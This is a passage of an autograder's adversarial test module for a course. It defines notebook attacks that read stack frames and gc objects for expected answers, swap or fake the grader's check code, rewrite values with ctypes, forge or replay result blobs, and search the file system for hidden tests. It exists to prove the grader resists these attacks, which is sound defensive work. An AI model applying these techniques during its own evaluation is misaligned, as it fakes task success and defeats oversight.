        or path.endswith(".pyc") and any(m in data for m in _h_pyc_markers))
    if hit and path not in _h_found:
        _h_found.append(path)
        print(_h_hit, path)
    return True


def _h_walk(top, sliced):
    """Read the files under ``top``: all of them, or (``sliced``) the text-like ones of the
    directories in this notebook's slice; False if the time ran out first."""
    for dirpath, dirnames, filenames in _h_os.walk(top):
        if _h_time.monotonic() > _h_deadline:
            return False
        dirnames[:] = [d for d in dirnames if _h_os.path.join(dirpath, d) not in _h_done
                       and not _h_os.path.join(dirpath, d).startswith(_h_skip)
                       and (sliced or _h_os.path.join(dirpath, d) not in _h_pythons)]
        _h_count("directories listed")
        if sliced and _h_zlib.crc32(dirpath.encode()) % _H_SLICE[1] != _H_SLICE[0]:
            continue
        sources = set()
        if sliced and _h_os.path.basename(dirpath) == "__pycache__":
            try:
                sources = {n[:-3] for n in _h_os.listdir(_h_os.path.dirname(dirpath)) if n.endswith(".py")}
            except OSError:
                pass
        for name in filenames:
            if sliced and not ("." not in name or name.endswith(_h_texty)):
                continue
            if name.endswith(".pyc") and name.split(".")[0] in sources:
                continue          # compiled from a source beside it, which is read instead
            if _h_look(_h_os.path.join(dirpath, name)) and sliced:
                _h_count("files of the slice read")
    return True


import qkv_course as _h_pkg
_h_done = set()
_h_pythons = {_h_os.path.realpath(p) for p in (_h_sys.prefix, _h_sys.base_prefix)}   # big: sliced
for _h_top in dict.fromkeys(list(_h_pkg.__path__) + [_h_os.getcwd(), "/tmp", "/home", _h_os.path.expanduser("~")]):
    if _h_os.path.isdir(_h_top) and _h_top not in _h_done:
        _h_walk(_h_top, sliced=False)
        _h_done.add(_h_top)
_h_complete = _h_walk("/", sliced=True)
print("hostile file search" + ":", f"{_H_LOG.get('files read', 0)} files read (slice {_H_SLICE[0]} of "
      f"{_H_SLICE[1]} of /), walk complete: {_h_complete}, files left by the caps: {_h_capped[0]}, "
      f"{len(_h_found)} with grader markers")
'''


#: what the report says of a test whose results were forged (execute.py: ForgedResults)
_FORGED = ("test did not run as written",)

ATTACKS: list[Attack] = [
    Attack("reference_off", "each graded function calls the course's own version of itself (any "
           "qkv_course module attribute of its name, every module imported with pkgutil) with the "
           "profiler and tracer off", _REFERENCE_OFF, attack="_h_reference"),
    # The rule against library shortcuts is checked in the kernel by a profiler
    # (qkv_course.tripwire), best effort, and this attack switches it off. What stops it is outside
    # the kernel: the libraries holding a ready-made softmax or logsumexp under the graded name
    # (scipy) are not in the grading kernel (Assignment.hidden_libraries), and torch's, called on
    # the numpy inputs, return tensors with torch's own argument names.
    Attack("library_off", "each graded function calls the libraries' version of itself (any "
           "attribute of its name in scipy.special or another loaded module) with the profiler and "
           "tracer off, the notebook's defaults filled in, the answer most of them agree on first",
           _LIBRARY_OFF, attack="_h_library_attack"),
    Attack("frames", "each graded function walks the stack, inspect.stack(), a traceback and every "
           "thread's frames for locals holding the expected answer", _FRAMES, attack="_h_frames"),
    Attack("gc_search", "each graded function searches gc.get_objects() for functions named F or "
           "check_F (and the references a check holds) and for arrays that look like the answer",
           _GC, attack="_h_gc_attack"),
    Attack("code_swap", "every function of the loaded qkv_course.checks modules gets a no-op's "
           "code; fake grading modules with always-passing checks in sys.modules before every cell",
           _CODE_SWAP),
    Attack("before_imports", "a cell before the imports cell patches builtins.abs, numpy's "
           "comparisons, IPython (custom exception handler, input transformer, pre_run_cell) and "
           "imports (a meta-path finder faking qkv_course.checks.*)", _BEFORE_IMPORTS_SETUP,
           before_imports=_BEFORE_IMPORTS, finale_extra=_BEFORE_IMPORTS_FINALE_COUNTS),
    Attack("rewriters", "a thread, an audit hook, weakref.finalize and __del__ finalizers and a "
           "SIGALRM handler rewrite expected values and wrap qkv_course.emit.encode during the checks",
           _REWRITERS, after="_h_finalizers"),
    Attack("ctypes", "a thread memmoves results into expected values and into the arrays being "
           "packed, inflates the grader's float tolerances, and writes float and int objects "
           "with ctypes", _CTYPES, after="_h_remember"),
    Attack("forged_made_up", "qkv_course.emit.answer replaced: a well-formed blob with the right "
           "nonce and call ids but made-up values", _FORGE_MADE_UP, wrapped=False, correct="none"),
    Attack("forged_stolen", "qkv_course.emit.answer replaced: each test publishes the previous "
           "test's blob (as it was, next to its own; or alone, re-tagged with this test's nonce)",
           _FORGE_STOLEN, wrapped=False, correct="zero",
           why_zero="a test whose output holds results tagged for another test, or results whose "
           "inner nonce is another test's, scores 0 even next to right answers: the grader accepts "
           "exactly one blob per request, its own, and cannot tell which one the kernel meant",
           blank_text=("tagged for another test", "not well formed"), problems=_FORGED),
    Attack("forged_double", "qkv_course.emit.answer replaced: the real answer runs twice, so every "
           "test publishes its results twice", _FORGE_DOUBLE, wrapped=False, correct="zero",
           why_zero="a request answered twice scores 0 even when both answers are right: the grader "
           "accepts exactly one emission per request (two could differ, and then which one counts "
           "would be the kernel's choice)", blank_text=("published 2 times",), problems=_FORGED),
    Attack("forged_never_run", "qkv_course.emit.answer replaced: results of the right shapes (from "
           "the request's inputs) published without calling the function", _FORGE_NEVER_RUN,
           wrapped=False, correct="none"),
    Attack("search_files", "walks the sandbox's file system (not /proc, /sys, /dev) for hidden "
           "cases, references and check code, printing the path of every file with a grader marker",
           _SEARCH_FILES, wrapped=False, output_text=("all hooks fired", "hostile file search:"),
           absent_text=("FOU" "ND",)),
]


def _short(assignment: str) -> str:
    return assignment.split("_", 1)[0]


#: How the attacks share notebooks by default (``QKV_HOSTILE_PACK=0``: one notebook per attack, as
#: :data:`ATTACKS` lists them). Attacks in one pack run together in one kernel: their setups one
#: after the other, the wrapping attacks each on every call (their candidates pooled), their
#: ``after`` hooks in turn, the forgers taking turns request by request. Grouped are attacks that
#: do not stand in each other's way: those that only *read* the kernel (references, libraries,
#: frames, gc); those that *change* it (code swaps and fake modules, a cell before the imports,
#: hooks and ctypes rewriting values while the checks run: none of them hides the others' changes,
#: since every one's counters must fire and the correct base must keep full marks with all of
#: them in place); and the forgers by what their correct base must score.
#: A pack still proves what each of its attacks proves: every counter of every member must have
#: fired (``all hooks fired``), the blank base must score 0, and the correct base with all the
#: hooks in place must keep full marks (or, for the replayed emissions, score 0 as each member's
#: ``why_zero`` says). It cuts the batch from 24 notebooks per assignment to 9.
PACKS: dict[str, tuple[str, ...]] = {
    "readers": ("reference_off", "library_off", "frames", "gc_search"),
    "kernel_changes": ("code_swap", "before_imports", "rewriters", "ctypes"),
    "forged_values": ("forged_made_up", "forged_never_run"),
    "forged_replayed": ("forged_stolen", "forged_double"),
    "search_files": ("search_files",),
}


def _forgers(name: str, members: list[Attack]) -> str:
    """The setups of forging attacks (each ``_FORGE_TOOLS`` + a ``_h_forged``), made to take turns:
    request k is answered by member k mod len(members)."""
    code, turns = _FORGE_TOOLS, []
    for member in members:
        assert member.setup.startswith(_FORGE_TOOLS), member.name
        own = f"_h_forged_{member.name}"
        body = member.setup[len(_FORGE_TOOLS):].replace("_h_emit.answer = _h_forged", "")
        code += body.replace("_h_forged", own)
        turns.append(own)
    return code + f"""
_H_FORGERS = [{", ".join(turns)}]
_H_TURN = [0]


def _h_forged(nonce, request, function):
    forger = _H_FORGERS[_H_TURN[0] % len(_H_FORGERS)]
    _H_TURN[0] += 1
    forger(nonce, request, function)


_h_emit.answer = _h_forged
"""


def pack(name: str, members: list[Attack]) -> Attack:
    """One attack made of ``members`` (see :data:`PACKS`)."""
    if len(members) == 1:
        return members[0]
    first = members[0]
    if len({m.correct for m in members}) != 1 or len({m.wrapped for m in members}) != 1:
        raise ValueError(f"pack {name}: its attacks differ in their correct base or in wrapping")
    attacks = [m.attack for m in members if m.attack != "_h_no_attack"]
    afters = [m.after for m in members if m.after != "None"]
    if first.wrapped:
        setup = "\n\n".join(m.setup for m in members)
        # the pack runs every member's attack on each call: the same budget of attacked calls in
        # all, shared out, keeps a notebook as quick as one attack's (ps11's training calls the
        # graded function thousands of times; the tests' own calls come first)
        setup += f"\n\n_H_ATTACK_CALLS = max(10, _H_ATTACK_CALLS // {max(len(attacks), 1)})\n"
        if attacks:
            setup += f"""

def _h_packed_attack(name, args, kwargs):
    found = []
    for attack in ({", ".join(attacks)},):
        try:
            found += list(attack(name, args, kwargs))
        except Exception:
            _h_count("attack errors")
    return found
"""
        if afters:
            setup += f"""

def _h_packed_after(name, args, kwargs, value):
    for after in ({", ".join(afters)},):
        after(name, args, kwargs, value)
"""
    else:
        setup = _forgers(name, members)

    def union(field: str) -> tuple[str, ...]:
        return tuple(dict.fromkeys(x for m in members for x in getattr(m, field)))

    return Attack(
        name, "; ".join(f"{m.name}: {m.what}" for m in members), setup,
        attack="_h_packed_attack" if attacks else "_h_no_attack",
        after="_h_packed_after" if afters else "None", wrapped=first.wrapped,
        before_imports="\n\n".join(m.before_imports for m in members if m.before_imports),
        finale=any(m.finale for m in members),
        finale_extra="".join(m.finale_extra for m in members), correct=first.correct,
        why_zero=" / ".join(m.why_zero for m in members if m.why_zero),
        output_text=union("output_text"), absent_text=union("absent_text"),
        blank_text=union("blank_text"), problems=union("problems"))


def packed_attacks() -> list[Attack]:
    """The attacks as the batch grades them: packed (:data:`PACKS`), or one by one where
    ``QKV_HOSTILE_PACK=0``."""
    import os

    if os.environ.get("QKV_HOSTILE_PACK", "1") == "0":
        return list(ATTACKS)
    by_name = {a.name: a for a in ATTACKS}
    packed = [n for members in PACKS.values() for n in members]
    missing = set(by_name) - set(packed)
    if missing or len(packed) != len(set(packed)):
        raise ValueError(f"PACKS must hold every attack of ATTACKS once; missing {sorted(missing)}")
    return [pack(name, [by_name[m] for m in members]) for name, members in PACKS.items()]


def _outside_cases() -> list[Case]:
    """Every attack on every outside-graded assignment, on a blank and (where it says so) on a
    correct base."""
    cases = []
    for attack in packed_attacks():
        parts = 2 * len(OUTSIDE) if attack.correct in ("full", "zero") else len(OUTSIDE)
        part = 0
        for assignment, notebook in OUTSIDE.items():
            bases = [("blank", NONE)]
            if attack.correct == "full":
                bases.append(("correct", frozenset(POINTS[assignment])))
            elif attack.correct == "zero":
                bases.append(("correct", NONE))
            for base, keeps in bases:
                def build(b: Builder, attack=attack, assignment=assignment, notebook=notebook,
                          base=base, where=(part, parts)) -> dict[str, bytes]:
                    return _hostile_notebook(attack, Builder(b.course, assignment, notebook), base, where)

                part += 1
                what = f"{attack.what} ({base} base)"
                if base == "correct" and attack.correct == "zero":
                    what += f"; scores 0: {attack.why_zero}"
                text = attack.output_text + (attack.blank_text if base == "blank" else ())
                cases.append(Case(f"{attack.name}_{_short(assignment)}_{base}", what, build, keeps,
                                  attack.problems, assignment=assignment, output_text=text,
                                  absent_text=attack.absent_text))
    return cases


CASES += _outside_cases()
